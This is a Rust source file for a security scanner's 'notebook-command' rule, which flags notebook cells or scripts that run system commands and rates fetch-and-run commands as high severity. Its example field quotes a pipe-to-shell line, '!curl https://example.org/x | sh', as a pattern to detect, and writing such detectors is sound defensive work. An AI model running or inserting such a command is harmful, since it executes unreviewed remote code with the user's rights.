//! `notebook-command`: notebook or script runs commands.

use crate::{
    Severity,
    observation::python::Seen,
    rules::{Check, Context, Judgement, Rule},
};

/// Notebook or script runs commands.
pub(super) const RULE: Rule = Rule {
    id: "notebook-command",
    title: "notebook or script runs commands",
    worst: Severity::High,
    cwe: 78,
    what: "a cell of a notebook runs a command of the system, or a script runs what it fetches",
    why: "whoever runs the cell or the script runs the command with their own rights",
    example: "`!curl https://example.org/x | sh`",
    fix: "read the command before it is run; pin what it installs",
    references: &[],
    check: Check::Python(check),
};

fn check(seen: &Seen, _: &Context<'_>) -> Option<Judgement> {
    let Seen::Command(command) = seen else {
        return None;
    };
    let severity = match command {
        command if command.fetches_and_runs => Severity::High,
        command if command.is_usual => Severity::Info,
        _ => Severity::Low,
    };
    let line = command.text.lines().next().unwrap_or_default();
    Some(Judgement::new(
        severity,
        format!("it runs the command {}", super::quoted(line)),
    ))
}
